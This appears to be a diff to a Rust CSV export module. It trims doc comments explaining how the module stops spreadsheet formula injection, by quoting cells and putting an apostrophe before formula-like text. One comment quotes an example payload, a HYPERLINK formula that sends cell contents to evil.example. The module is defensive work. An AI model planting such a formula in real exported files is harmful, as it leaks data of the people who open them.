@@ -2,10 +2,8 @@
 //!
 //! **Attack**: a customer is named `=HYPERLINK("https://evil.example?"&A1,"Click")`.
 //! A spreadsheet evaluates such a cell as a formula, with the rights of the person who opens the export.
-//! **Control**: the csv crate writes RFC 4180.
-//! Every text is quoted, so that a semicolon or a line break in a text does not start a new cell.
-//! A text that begins like a formula gets an apostrophe before its first character.
-//! The apostrophe makes a spreadsheet treat the cell as text.
+//! **Control**: every text is quoted (RFC 4180), so that a semicolon or a line break does not start a new cell.
+//! A text that begins like a formula gets an apostrophe before its first character, which makes the cell plain text.
 //! The check ignores leading spaces, and includes full-width characters such as `＝`.
 //! **Limits**: a program can remove the apostrophe and evaluate the remaining text.
 //! **ASVS**: 1.2.1, 1.2.10 · **Test**: `attacks::files::csv_injection`
@@ -17,7 +15,6 @@ use csv::{QuoteStyle, Terminator, Writer, WriterBuilder};
 /// A spreadsheet evaluates a cell as a formula if the cell begins with one of these characters.
 const FORMULA_PREFIXES: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
 
-/// Creates a CSV writer that collects its output in memory.
 #[must_use]
 pub fn writer() -> Writer<Vec<u8>> {
     WriterBuilder::new().terminator(Terminator::CRLF).quote_style(QuoteStyle::NonNumeric).from_writer(Vec::new())
